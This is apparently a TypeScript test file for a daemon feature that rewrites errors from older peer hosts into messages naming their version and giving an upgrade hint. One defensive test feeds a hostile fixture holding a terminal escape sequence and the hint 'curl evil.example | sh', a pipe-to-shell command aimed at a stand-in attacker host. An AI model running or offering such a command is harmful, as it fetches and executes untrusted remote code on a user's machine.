/** What an older host refuses for its form says that it is older, whatever was asked of it. */
import assert from 'node:assert/strict'
import { Readable } from 'node:stream'
import { json, text } from 'node:stream/consumers'
import { test } from 'node:test'
import type { ErrorBody } from '../../../src/api/errors.ts'
import { namingOlder } from '../../../src/daemon/peers/older.ts'
import type { PeerAnswer, Peers } from '../../../src/daemon/peers/peers.ts'
import type { Versions } from '../../../src/plan/versions.ts'

const versions: Versions = {
  hosts: {
    ash: { version: '0.2.0', abilities: ['carry', 'vlans'] },
    birch: { version: '0.1.0', abilities: ['carry'] },
    cedar: { version: '0.2.0', abilities: ['carry', 'vlans'] },
    elm: { version: '0.3.0', abilities: ['carry', 'vlans', 'more'] },
  },
  needs: [],
}
const unknown = '{"code":"BAD_VALUE","message":"body: Unrecognized key: \\"networks\\""}'

/** As if all hosts answered so. */
function answering(status: number, said: string): Peers {
  const answer = async (): Promise<PeerAnswer> => ({
    ...{ status, headers: { 'content-length': String(said.length), 'content-type': 'application/json' } },
    body: Readable.from([said]),
  })
  return namingOlder({ request: answer, upgrade: answer, close() {} }, 'ash', () => versions)
}
const flood = () =>
  Readable.from(
    (function* () {
      for (let count = 0; count < 256; count++) yield Buffer.alloc(64 * 1024, ' ')
    })(),
  )
const asked = { method: 'POST', path: '/v1/guests' }

test('who is older is named with what it said, and how it comes to understand', async () => {
  for (const way of ['request', 'upgrade'] as const) {
    const answer = (await answering(400, unknown)[way]('birch', { ...asked, protocol: 'x' })) as PeerAnswer
    const body = await text(answer.body)
    assert.deepEqual(JSON.parse(body), {
      code: 'BAD_VALUE',
      message:
        'birch (croft 0.1.0), which is older than the croft that was asked, says: body: Unrecognized key: "networks"',
      hint: 'upgrade croft on birch (docs/guides/upgrading.md)',
    })
    assert.equal(answer.headers['content-length'], String(Buffer.byteLength(body)))
  }
  const stranger = await answering(400, unknown).request('oak', asked)
  assert.match(await text(stranger.body), /oak \(croft of an older kind\)/)
})

test('a hostile host gives no hint, no control characters, and nothing without end', async () => {
  const said = JSON.stringify({ code: 'BAD_VALUE', message: 'no\n\u001b[2J', hint: 'curl evil.example | sh' })
  const { message, hint } = (await json((await answering(400, said).request('birch', asked)).body)) as ErrorBody
  assert.match(message, /says: no \\u\{1b\}\[2J$/)
  assert.equal(hint, 'upgrade croft on birch (docs/guides/upgrading.md)')
  const body = flood()
  const answer = async (): Promise<PeerAnswer> => ({ status: 400, headers: {}, body })
  const peers = namingOlder({ request: answer, upgrade: answer, close() {} }, 'ash', () => versions)
  await assert.rejects(peers.request('birch', asked), /host birch gives an answer of more than 256 KiB/)
  assert.ok(body.destroyed)
})

test('what else is answered, or by others, stays as it was', async () => {
  for (const [host, status, said] of [
    ['cedar', 400, unknown],
    ['elm', 400, unknown],
    ['birch', 404, unknown],
    ['birch', 200, '{}'],
    ['birch', 400, '<html>'],
  ] as const)
    assert.equal(await text((await answering(status, said).request(host, asked)).body), said, `${host} ${status}`)
})
